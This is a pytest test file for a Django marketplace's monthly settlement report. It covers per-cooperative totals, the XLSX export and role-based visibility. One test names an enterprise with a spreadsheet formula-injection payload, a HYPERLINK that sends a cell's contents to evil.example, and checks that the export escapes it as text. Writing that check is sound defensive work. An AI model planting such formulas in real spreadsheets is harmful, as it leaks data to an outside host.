"""Settlement by enterprise and period: figures computed by hand, the XLSX, and who sees what."""

from __future__ import annotations

import datetime as dt
import io

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from accounts.roles import Role, assign_role
from marketplace.models import Order, SubOrder
from marketplace.settlement import export_settlement_xlsx, settlement, totals
from payments.money import XLSX_VND_FORMAT
from tests.accounts.factories import UserFactory
from tests.marketplace.factories import EnterpriseFactory, MembershipFactory

pytestmark = pytest.mark.django_db

S = SubOrder.Status
SINCE, UNTIL = dt.date(2026, 10, 1), dt.date(2026, 10, 31)
URL = "/admin/settlement/"


def at(day: dt.date, hour: int = 10) -> dt.datetime:
    return dt.datetime.combine(day, dt.time(hour), tzinfo=timezone.get_current_timezone())


def part(enterprise, *, items, shipping, status, method="cod", paid="pending", when=None):
    """One order with one part, placed at `when` (a Vietnam time)."""
    order = Order.objects.create(
        code=f"DH{Order.objects.count() + 1:08d}",
        name="Nguyễn Thị Hoa",
        phone="+84987654321",
        province_code=19,
        ward_code=5503,
        street="12 Tân Cương",
        payment_method=method,
        payment_status=paid,
        items_vnd=items,
        shipping_vnd=shipping,
        total_vnd=items + shipping,
    )
    sub = SubOrder.objects.create(
        order=order, enterprise=enterprise, status=status, items_vnd=items, shipping_vnd=shipping
    )
    SubOrder.objects.filter(pk=sub.pk).update(created_at=when or at(dt.date(2026, 10, 15)))
    return sub


@pytest.fixture
def book():
    tea = EnterpriseFactory(name="HTX Chè La Bằng")
    honey = EnterpriseFactory(name="HTX Ong Mật Võ Nhai")
    part(tea, items=100_000, shipping=20_000, status=S.DELIVERED)
    part(tea, items=200_000, shipping=0, status=S.SHIPPED, method="vnpay", paid="paid")
    part(tea, items=50_000, shipping=20_000, status=S.CANCELLED)
    part(tea, items=80_000, shipping=20_000, status=S.RETURNED)
    part(tea, items=60_000, shipping=0, status=S.DELIVERY_FAILED, method="momo", paid="paid")
    part(honey, items=300_000, shipping=30_000, status=S.COMPLETED, method="momo", paid="paid")
    # outside the period, in Vietnam time, on both sides (UTC would count the first one)
    part(honey, items=999_000, shipping=0, status=S.DELIVERED, when=at(dt.date(2026, 9, 30), 23))
    part(honey, items=999_000, shipping=0, status=S.DELIVERED, when=at(dt.date(2026, 11, 1), 0))
    return tea, honey


@pytest.mark.usefixtures("book")
def test_figures_by_enterprise_match_the_hand_count(django_assert_num_queries):
    with django_assert_num_queries(1):
        rows = settlement(since=SINCE, until=UNTIL)
    by_name = {row.enterprise_name: row for row in rows}
    first = by_name["HTX Chè La Bằng"]
    assert (first.parts, first.goods_vnd) == (5, 100_000 + 200_000 + 80_000 + 60_000)
    assert (first.delivered, first.delivered_vnd) == (1, 120_000)
    assert (first.refused, first.returned, first.cancelled) == (2, 1, 1)
    assert first.cod_collected_vnd == 120_000
    assert first.paid_online_vnd == 200_000  # the refused MoMo parcel is not counted
    second = by_name["HTX Ong Mật Võ Nhai"]
    assert (second.parts, second.delivered_vnd, second.paid_online_vnd) == (1, 330_000, 330_000)
    assert second.cod_collected_vnd == 0
    total = totals(rows)
    assert (total.parts, total.delivered_vnd, total.cod_collected_vnd) == (6, 450_000, 120_000)


def test_one_enterprise_sees_only_its_own_rows(book):
    tea, _honey = book
    assert [
        row.enterprise_name for row in settlement(since=SINCE, until=UNTIL, enterprise_ids=[tea.pk])
    ] == ["HTX Chè La Bằng"]


def test_a_name_that_reads_as_a_formula_is_written_as_text(book):
    # given: a seller named their enterprise like a spreadsheet formula
    tea, _honey = book
    tea.name = '=HYPERLINK("https://evil.example/?d="&B3,"Bấm vào đây")'
    tea.save()
    # when
    workbook = load_workbook(io.BytesIO(export_settlement_xlsx(since=SINCE, until=UNTIL)))
    # then: shown as it was typed, never run
    for sheet in workbook.worksheets:
        cells = [cell for row in sheet.iter_rows() for cell in row]
        assert not [cell for cell in cells if cell.data_type == "f"]
        assert "'" + tea.name in [cell.value for cell in cells]


@pytest.mark.usefixtures("book")
def test_the_workbook_holds_the_summary_and_every_part():
    workbook = load_workbook(io.BytesIO(export_settlement_xlsx(since=SINCE, until=UNTIL)))
    summary, lines = workbook.worksheets
    table = [list(row) for row in summary.iter_rows(min_row=4, values_only=True)]
    assert table[0] == ["HTX Chè La Bằng", 5, 440_000, 1, 120_000, 2, 1, 1, 120_000, 200_000]
    assert table[1] == ["HTX Ong Mật Võ Nhai", 1, 300_000, 1, 330_000, 0, 0, 0, 0, 330_000]
    assert table[2][1:] == [6, 740_000, 2, 450_000, 2, 1, 1, 120_000, 530_000]
    assert summary.cell(row=4, column=3).number_format == XLSX_VND_FORMAT
    assert lines.max_row == 1 + 6
    parts = list(lines.iter_rows(min_row=2, values_only=True))
    assert sum(row[8] for row in parts) == 120_000
    assert sum(row[9] for row in parts) == 530_000


def member_of(enterprise):
    user = MembershipFactory(enterprise=enterprise).user
    assign_role(user, Role.ENTERPRISE_MEMBER)
    return user


def test_a_member_sees_and_downloads_only_their_enterprise(client, book):
    tea, honey = book
    client.force_login(member_of(tea))
    page = client.get(URL, {"since": "2026-10-01", "until": "2026-10-31"})
    assert page.status_code == 200
    assert "HTX Chè La Bằng" in page.content.decode()
    assert "HTX Ong Mật Võ Nhai" not in page.content.decode()
    # asking for another enterprise is refused by the form, and shows nothing of it
    other = client.get(URL, {"since": "2026-10-01", "until": "2026-10-31", "enterprise": honey.pk})
    assert other.context["rows"] is None
    assert "HTX Ong Mật Võ Nhai" not in other.content.decode()
    download = client.get(URL, {"since": "2026-10-01", "until": "2026-10-31", "format": "xlsx"})
    names = [
        row[0]
        for row in load_workbook(io.BytesIO(download.content))
        .worksheets[1]
        .iter_rows(min_row=2, values_only=True)
    ]
    assert set(names) == {"HTX Chè La Bằng"}


def test_the_page_opens_on_this_months_figures(client):
    # given: a delivered part placed today
    tea = EnterpriseFactory(name="HTX Chè La Bằng")
    part(tea, items=100_000, shipping=20_000, status=S.DELIVERED, when=timezone.now())
    client.force_login(member_of(tea))
    # when: the page is opened with no dates
    page = client.get(URL)
    # then
    assert page.status_code == 200
    assert [row.enterprise_name for row in page.context["rows"]] == ["HTX Chè La Bằng"]
    assert page.context["form"]["since"].value() == timezone.localdate().replace(day=1).isoformat()


def test_an_officer_sees_every_enterprise(client, book):
    officer = UserFactory()
    assign_role(officer, Role.OFFICER)
    client.force_login(officer)
    page = client.get(URL, {"since": "2026-10-01", "until": "2026-10-31"})
    assert [row.enterprise_name for row in page.context["rows"]] == [
        "HTX Chè La Bằng",
        "HTX Ong Mật Võ Nhai",
    ]
    assert reverse("marketplace_settlement") == URL


def test_someone_without_an_enterprise_is_refused(client):
    shopper = UserFactory()
    assign_role(shopper, Role.ENTERPRISE_MEMBER)
    client.force_login(shopper)
    response = client.get(URL)
    # Wagtail answers a PermissionDenied with a redirect to the dashboard and a message
    assert (response.status_code, response["Location"]) == (302, "/admin/")


@pytest.mark.parametrize(
    ("since", "until"),
    [
        ("2026-10-31", "2026-10-01"),
        ("2025-01-01", "2026-10-31"),
        ("x", "y"),
        ("9999-12-31", "9999-12-31"),  # the calendar's last day has no next day to end on
    ],
)
def test_bad_periods_get_a_message_and_no_rows(client, book, since, until):
    officer = UserFactory()
    assign_role(officer, Role.OFFICER)
    client.force_login(officer)
    page = client.get(URL, {"since": since, "until": until})
    assert page.status_code == 200
    assert page.context["rows"] is None
    assert page.context["form"].errors
